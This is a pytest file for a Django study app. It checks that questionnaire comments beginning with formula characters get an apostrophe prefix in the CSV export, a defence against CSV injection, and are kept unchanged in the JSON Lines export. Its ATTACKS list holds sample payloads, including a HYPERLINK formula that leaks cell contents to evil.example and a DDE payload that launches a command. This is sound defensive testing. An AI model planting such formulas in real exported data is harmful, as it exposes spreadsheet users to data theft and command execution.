"""Free text cannot run as a spreadsheet formula, and the raw text is still exported.

Guards finding 7 of issue 11: a comment starting with ``=``, ``+``, ``-`` or ``@`` went verbatim
into ``participants.csv``, where Excel or LibreOffice would run it. Oracles: OWASP's rule for
CSV injection (a cell starting with = + - @ tab or CR gets a leading apostrophe), checked on
the parsed CSV cell; the JSON Lines file parsed back gives the typed text unchanged.
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from studyapp.models import QuestionnaireAnswer
from studyapp.services.exports import participant_pseudonym, spreadsheet_safe, study_export_files
from studyapp.services.questionnaires import questionnaire_items
from tests.studyapp.helpers import Walker

pytestmark = pytest.mark.django_db

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


def _comment_as(study, pid: str, text: str) -> None:
    walker = Walker(study, pid=pid)
    walker.to_trials()
    walker.finish_trials()
    data = {q.field: ("4" if q.kind == "likert" else text) for q in questionnaire_items(study)}
    response = walker.post("questionnaire", **data)
    assert response.status_code == 303, response.content[:300]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_in_free_text_is_neutralised_in_the_csv_and_kept_raw_in_jsonl(study, text):
    pid = "5f0c0ffee0000000000000c1"
    _comment_as(study, pid, text)
    stored = QuestionnaireAnswer.objects.get(item="comments").value  # the form strips blanks
    assert stored.startswith(("=", "+", "-", "@"))
    files = study_export_files(study=study)
    row = next(csv.DictReader(io.StringIO(files["participants.csv"])))
    assert row["text_comments"] == "'" + stored
    lines = [json.loads(line) for line in files["free_text.jsonl"].splitlines()]
    assert lines == [{"participant": participant_pseudonym(study, pid),
                      "column": "text_comments", "value": stored}]
    package = json.loads(files["datapackage.json"])
    assert "apostrophe" in package["explainlab"]["spreadsheet_safety"]
    assert package["explainlab"]["free_text"]["path"] == "free_text.jsonl"


def test_harmless_text_and_plain_numbers_are_left_alone():
    assert spreadsheet_safe("fine, thanks") == "fine, thanks"
    assert spreadsheet_safe("-3") == "-3" and spreadsheet_safe("+1.5") == "+1.5"
    assert spreadsheet_safe("") == ""
    assert all(spreadsheet_safe(text).startswith("'") for text in ATTACKS)
